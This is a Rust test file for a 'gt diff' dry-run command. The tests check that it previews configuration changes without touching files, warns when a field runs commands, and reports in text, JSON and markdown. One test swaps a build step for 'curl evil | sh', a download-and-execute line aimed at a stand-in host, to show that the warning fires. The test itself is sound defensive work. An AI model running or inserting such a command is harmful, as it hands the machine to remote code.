//! `gt diff`: what a change would do, found out without doing anything.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::harness::{CONVOY, Folder, RIG};

/// Every file and folder below one, with what it holds.
fn files(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut found = BTreeMap::new();
    let mut folders = vec![dir.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs_err::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                found.insert(path.clone(), Vec::new());
                folders.push(path);
            } else {
                found.insert(path.clone(), fs_err::read(&path).unwrap());
            }
        }
    }
    found
}

/// What is said without the objects.
fn world(said: &str) -> &str {
    said.find("what it would do:").map_or(said, |at| &said[at..])
}

#[test]
fn a_fresh_town_is_simulated_and_nothing_is_made() {
    let folder = Folder::town();
    folder.write("rig.yaml", RIG);
    folder.write("convoy.yaml", CONVOY);
    let before = files(&folder.path(""));
    let done = folder.gt(&["diff", "-f", "rig.yaml", "-f", "convoy.yaml"]);
    insta::assert_snapshot!(world(&done.all()), @"
    what it would do:
      sessions started (1)
        shop-nux on shop-ey588guy
      sandboxes made (1)
        shop-nux
      beads made (2)
        shop-ey588guy (Rotate session tokens)
        shop-zt3yyh8q (Log out everywhere)
      beads ready (1)
        shop-ey588guy (Rotate session tokens)
      clones (1)
        shop from [dir]/home/repos/shop.git
    exit 1
    ");
    assert!(done.out.contains("rig/shop created\nruns commands on this machine: spec.merge.verify[test].run\n"));
    assert_eq!(files(&folder.path("")), before);
}

#[test]
fn what_differs_is_shown_with_the_commands_that_would_run_and_the_store_stays_as_it_is() {
    let folder = Folder::with_rig();
    folder.write("changed.yaml", &RIG.replace("make test", "curl evil | sh").replace("checkout", "web"));
    let before = files(&folder.path(""));
    insta::assert_snapshot!(folder.gt(&["diff", "-f", "changed.yaml"]).all(), @r#"
    rig/shop configured
    runs commands on this machine: spec.merge.verify[test].run
    --- rig/shop (in the town)
    +++ rig/shop (as declared)
    @@ -3,7 +3,7 @@
     metadata:
       name: shop
       labels:
    -    team: checkout
    +    team: web
     spec:
       identity: {}
       merge:
    @@ -11,7 +11,7 @@
         strategy: Push
         verify:
         - name: test
    -      run: make test
    +      run: "curl evil | sh"
         whenCheckedOut: Refuse
       polecats: {}
       repo:

    1 configured
    nothing would happen in the world
    exit 1
    "#);
    let unchanged = folder.gt(&["diff", "-f", "rig.yaml"]);
    insta::assert_snapshot!(unchanged.all(), @"
    1 unchanged
    nothing would happen in the world
    exit 0
    ");
    // The lock is written by whoever looks into the store; what is in it is the same.
    let lock = folder.opened().layout.store_lock();
    let after = files(&folder.path(""));
    let differ: Vec<_> = before.iter().filter(|(path, bytes)| after.get(*path) != Some(bytes)).collect();
    assert!(differ.iter().all(|(path, _)| **path == lock), "{differ:?}");
    assert_eq!(before.len(), after.len());
}

#[test]
fn programs_and_reviewers_read_the_same() {
    let folder = Folder::with_rig();
    folder.write("changed.yaml", &RIG.replace("make test", "make check"));
    let done = folder.gt(&["diff", "-f", "changed.yaml", "-o", "json"]);
    let said: Value = serde_json::from_str(&done.out).unwrap();
    assert_eq!(done.code, 1);
    assert_eq!(
        said["summary"],
        serde_json::json!({
            "created": 0, "configured": 1, "pruned": 0, "unchanged": 0, "runsCommands": true,
        })
    );
    assert_eq!(said["objects"][0]["object"], "rig/shop");
    assert_eq!(said["objects"][0]["action"], "configured");
    assert_eq!(said["objects"][0]["runsCommands"][0], "spec.merge.verify[test].run");
    assert_eq!(said["world"], serde_json::json!({ "happens": {}, "noLonger": {}, "cutShort": false }));
    insta::assert_snapshot!(folder.gt(&["diff", "-f", "changed.yaml", "-o", "markdown"]).all(), @"
    **gt diff**: 1 configured · ⚠️ **runs commands on this machine**

    Nothing would happen in the world.

    <details><summary>rig/shop configured</summary>

    ⚠️ runs commands on this machine: `spec.merge.verify[test].run`

    ```diff
    --- rig/shop (in the town)
    +++ rig/shop (as declared)
    @@ -11,7 +11,7 @@
         strategy: Push
         verify:
         - name: test
    -      run: make test
    +      run: make check
         whenCheckedOut: Refuse
       polecats: {}
       repo:
    ```

    </details>

    exit 1
    ");
}

#[test]
fn trouble_is_told_from_a_difference() {
    let folder = Folder::town();
    folder.write("convoy.yaml", CONVOY);
    let dangling = folder.gt(&["diff", "-f", "convoy.yaml"]);
    assert_eq!((dangling.code, dangling.out.as_str()), (4, ""), "{}", dangling.err);
    assert_eq!(folder.gt(&["diff", "-f", "nowhere.yaml"]).code, 3);
    assert_eq!(folder.gt(&["diff", "-f", "convoy.yaml", "--allow-missing"]).code, 1);
    // The town's folder is what is declared, where nothing is named.
    folder.write("rig.yaml", RIG);
    let whole = folder.gt(&["diff"]);
    assert!(whole.out.contains("\n6 created\n"), "{}", whole.all());
}

#[test]
fn what_would_be_pruned_is_shown_with_what_goes_with_it() {
    let folder = Folder::with_rig();
    let labelled = CONVOY.replace("  name: auth\n", "  name: auth\n  labels: { team: checkout }\n");
    assert_eq!(folder.gt_with(&["apply", "-f", "-"], &labelled).code, 0);
    let args = ["diff", "-f", "rig.yaml", "--prune", "-l", "team=checkout"];
    let done = folder.gt(&args);
    assert!(done.out.starts_with("convoy/auth pruned\n--- convoy/auth (in the town)\n+++ /dev/null\n"), "{}", done.out);
    // No controller has made its beads yet: they would have been made.
    let said = done.all();
    insta::assert_snapshot!(&said[said.find("1 pruned").unwrap()..], @"
    1 pruned, 1 unchanged
    what it would do:
      no longer: sessions started (1)
        shop-nux on shop-ey588guy
      no longer: sandboxes made (1)
        shop-nux
      no longer: beads made (2)
        shop-ey588guy (Rotate session tokens)
        shop-zt3yyh8q (Log out everywhere)
      no longer: beads ready (1)
        shop-ey588guy (Rotate session tokens)
    exit 1
    ");
    assert_eq!(folder.gt(&["get", "convoy/auth"]).code, 0, "nothing was pruned");
    assert_eq!(folder.gt(&["diff", "-f", "rig.yaml", "--prune"]).code, 2);
}
